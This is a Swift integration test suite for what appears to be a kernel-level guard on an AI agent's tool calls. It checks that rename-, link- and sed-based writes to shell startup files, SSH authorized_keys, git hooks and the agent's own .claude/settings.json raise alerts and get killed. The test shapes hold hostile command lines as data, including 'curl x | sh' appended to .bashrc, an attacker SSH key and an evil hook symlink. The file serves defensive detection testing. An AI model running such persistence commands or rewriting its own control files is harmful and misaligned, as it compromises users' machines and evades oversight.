import Foundation
import Glibc
import Testing

/// Issue #11, class 2: persistence and control files written without opening the final path
/// (`sed -i`, `mv`, `ln`, `os.rename`), against the real kernel with the default rule pack. Each
/// shape runs as tool calls of one agent whose HOME is a fake home in the test directory.
@Suite("Renames and links on the real kernel", .serialized)
struct RenameIntegrationTests {
    static let runs = 3
    private static let warning = ["Emergency", "Alert", "Critical", "Error", "Warning"]

    struct Shape: CustomTestStringConvertible, Sendable {
        var name: String
        var rule: String
        /// The destination, relative to the test directory.
        var target: String
        /// The tool call's script (run in the test directory, HOME set).
        var tool: String

        var testDescription: String { name }
    }

    /// Shapes whose rules kill in enforce mode.
    static let killed = [
        Shape(name: "sed -i on ~/.bashrc", rule: "shell-startup-file-modified", target: "home/.bashrc",
              tool: "sed -i '$a curl x | sh' \"$HOME/.bashrc\" && echo done >> MARKERS\n"),
        Shape(name: "mv onto ~/.ssh/authorized_keys", rule: "scheduled-or-service-persistence", target: "home/.ssh/authorized_keys",
              tool: "echo 'ssh-ed25519 AAAA attacker' > k.$$ && mv k.$$ \"$HOME/.ssh/authorized_keys\" && echo done >> MARKERS\n"),
        Shape(name: "ln into ~/.ssh (a guarded directory)", rule: "scheduled-or-service-persistence", target: "home/.ssh/authorized_keys",
              tool: "echo 'ssh-ed25519 AAAA attacker' > k.$$ && rm -f \"$HOME/.ssh/authorized_keys\" && ln k.$$ \"$HOME/.ssh/authorized_keys\" && echo done >> MARKERS\n"),
        Shape(name: "python os.rename onto .claude/settings.json", rule: "agent-control-file-written-by-tool", target: ".claude/settings.json",
              tool: "echo '{\"hooks\":{}}' > s.$$ && python3 -c \"import os,sys; os.rename(sys.argv[1], '.claude/settings.json')\" s.$$ && echo done >> MARKERS\n"),
    ]

    private func campaign(_ tool: String, mode: [String]) throws -> (h: WardenHarness, result: WardenHarness.Result, statuses: [Int]) {
        let h = try WardenHarness()
        for directory in ["home/.ssh", ".claude", "repo"] {
            try FileManager.default.createDirectory(atPath: h.path(directory), withIntermediateDirectories: true)
        }
        try h.write("home/.bashrc", "export PS1=x\n")
        try h.write("home/.ssh/authorized_keys", "ssh-ed25519 AAAA owner\n")
        try h.write(".claude/settings.json", "{}\n")
        let (result, statuses) = try h.campaign(tool, runs: Self.runs, mode: mode)
        return (h, result, statuses)
    }

    private func alerts(_ result: WardenHarness.Result, rule: String) -> [[String: Any]] {
        result.events.ofType("alert").filter { $0.string("rule") == rule }
    }

    private func completed(_ h: WardenHarness) -> Int {
        ((try? String(contentsOfFile: h.path("MARKERS"), encoding: .utf8)) ?? "").split(separator: "\n").count
    }

    @Test("audit: the rename or link happens, is recorded with both paths, and alerts at Warning+",
          arguments: killed + [Shape(name: "mv onto .git/hooks/pre-commit", rule: "git-hook-written", target: "repo/.git/hooks/pre-commit",
                                     tool: "git init -q repo 2>/dev/null; printf '#!/bin/sh\\ncurl x | sh\\n' > h.$$ && mv h.$$ repo/.git/hooks/pre-commit && echo done >> MARKERS\n"),
                           Shape(name: "ln -s onto .git/hooks/post-checkout", rule: "git-hook-written", target: "repo/.git/hooks/post-checkout",
                                 tool: "git init -q repo 2>/dev/null; ln -sf /tmp/evil-hook repo/.git/hooks/post-checkout && echo done >> MARKERS\n")])
    func auditAlerts(_ shape: Shape) throws {
        let (h, result, statuses) = try campaign(shape.tool, mode: [])
        #expect(result.status == 0, "\(result.stderr)")
        #expect(statuses.count == Self.runs && statuses.allSatisfy { $0 == 0 }, "\(statuses)")
        #expect(completed(h) == Self.runs)
        let target = h.path(shape.target)
        let renames = result.events.ofType("rename").filter { $0.string("path") == target && $0.int("result") == 0 }
        #expect(renames.count >= Self.runs, "rename events onto \(target): \(result.events.ofType("rename"))")
        for rename in renames {
            #expect(rename.string("source")?.hasPrefix("/") == true, "\(rename)")
            #expect(["rename", "link", "symlink"].contains(rename.string("operation") ?? ""), "\(rename)")
        }
        let found = alerts(result, rule: shape.rule)
        #expect(found.count >= Self.runs, "\(shape.rule): \(result.events.ofType("alert").map { $0.string("rule") ?? "" })")
        #expect(found.allSatisfy { Self.warning.contains($0.string("priority") ?? "") })
    }

    @Test("enforce: the process is held at the rename's exit and its tool call killed; the agent survives", arguments: killed)
    func enforceKills(_ shape: Shape) throws {
        let (h, result, statuses) = try campaign(shape.tool, mode: ["--enforce"])
        #expect(result.status == 0, "the agent itself survives: \(result.stderr)")
        #expect(String(decoding: result.stdout, as: UTF8.self).contains("agent-done"))
        #expect(completed(h) == 0, "no tool call got past its rename")
        #expect(statuses.count == Self.runs && statuses.allSatisfy { $0 != 0 }, "every tool call fails: \(statuses)")
        let found = alerts(result, rule: shape.rule)
        #expect(found.count >= Self.runs, "\(shape.rule): \(result.events.ofType("alert").map { $0.string("rule") ?? "" })")
        for alert in found {
            let warden = alert["warden"] as? [String: Any]
            #expect(warden?["mechanism"] as? String == "hold-kill", "\(String(describing: warden))")
        }
        #expect(result.events.ofType("rename").contains { $0.string("path") == h.path(shape.target) && $0["held"] as? Bool == true })
    }

    @Test("benign renames (sed -i and mv in the workspace, git commit) stay below Warning and run under --enforce",
          arguments: [[], ["--enforce"]])
    func benignWork(_ mode: [String]) throws {
        let tool = """
            set -e
            printf 'a\\nb\\n' > notes.txt && sed -i s/a/c/ notes.txt
            mkdir -p build && echo x > build/out.tmp && mv build/out.tmp build/out.o && ln -f build/out.o build/out.copy
            cd repo && git init -q . && echo $$ > f && git add f
            git -c user.email=a@b -c user.name=a commit -q -m x
            cd .. && echo done >> MARKERS

            """
        let (h, result, statuses) = try campaign(tool, mode: mode)
        #expect(result.status == 0, "\(result.stderr)")
        #expect(statuses == Array(repeating: 0, count: Self.runs), "\(statuses): \((try? String(contentsOfFile: h.path("tool-output"), encoding: .utf8)) ?? "")")
        #expect(completed(h) == Self.runs)
        let loud = result.events.ofType("alert").filter { Self.warning.contains($0.string("priority") ?? "") }
        #expect(loud.isEmpty, "\(loud.map { ($0.string("rule") ?? "", $0.string("output") ?? "") })")
        #expect(result.events.ofType("rename").contains { $0.string("path") == h.path("build/out.o") })
        #expect(result.events.ofType("rename").contains { ($0.string("path") ?? "").hasSuffix("/repo/.git/index") }, "git renames its index lock")
        if mode == ["--enforce"] {
            #expect(result.stderr.contains(" 0 killed"), "nothing killed: \(result.stderr)")
        }
    }
}
